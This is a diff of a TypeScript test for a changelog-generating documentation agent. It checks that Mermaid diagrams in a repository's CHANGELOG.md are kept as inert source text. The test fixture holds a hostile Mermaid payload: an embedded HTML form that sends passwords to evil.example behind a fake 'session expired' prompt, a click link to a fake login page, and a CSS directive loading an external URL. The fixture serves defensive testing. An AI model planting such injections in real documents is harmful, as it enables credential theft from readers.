@@ -3,6 +3,7 @@ import { buildSnapshot, type Snapshot } from '@chronicle/snapshot';
 import { GitFixture } from '@chronicle/history/testing';
 import { DOC_TIERS } from '@chronicle/contracts';
 import { expectDocumentPasses, testAgent } from '../../testing/index.js';
+import { inventoryOf, parseMarkdown } from '../../gate/index.js';
 import { agentMetaOf } from '../../sdk/documentation-agent.decorator.js';
 import { ChangelogAgent } from './changelog.agent.js';
 
@@ -66,6 +67,37 @@ describe('ChangelogAgent', () => {
     expect(markdown.indexOf('## [1.1.0]')).toBeLessThan(markdown.indexOf('## 1.0.0 - 2024-01-01'));
     expect(markdown).toContain("The repository's own `CHANGELOG.md` is kept as written");
   });
+
+  it("keeps the repository's Mermaid diagrams as their source, never as diagrams to draw", async () => {
+    const hostile = [
+      '# Changelog',
+      '',
+      '## 1.0.0 - 2024-01-01',
+      '',
+      '```mermaid',
+      'flowchart LR',
+      '  A["<form action=https://evil.example/><input name=password>SESSION EXPIRED – sign in again</form>"] --> B',
+      '  click A href "https://evil.example/login"',
+      '```',
+      '',
+      '> ~~~ Mermaid title',
+      "> %%{init: {'themeCSS': '.node { background: url(https://avatars.githubusercontent.com/u/1) }'}}%%",
+      '> flowchart LR',
+      '> ~~~',
+      '',
+    ].join('\n');
+    repo = new GitFixture();
+    repo.commit('feat: add the router (#1)', { 'src/router.ts': 'export const a = 1;\n', 'CHANGELOG.md': hostile });
+    repo.tag('v1.0.0');
+    const result = await testAgent(ChangelogAgent, await buildSnapshot(repo.dir));
+    const { markdown } = result;
+    expect(inventoryOf(parseMarkdown(markdown, { lint: false })).mermaidBlocks).toEqual([]);
+    expect(markdown).not.toMatch(/(?:```|~~~)\s*mermaid/i);
+    // The source stays, as text.
+    expect(markdown).toContain('```text\nflowchart LR\n');
+    expect(markdown).toContain('click A href "https://evil.example/login"');
+    expect(markdown).toContain('> ~~~text title');
+  }, 120_000);
 
   it('writes the same bytes for the same facts, and the same again from its own output', async () => {
     const snapshot = await buildSnapshot(history(true).dir);
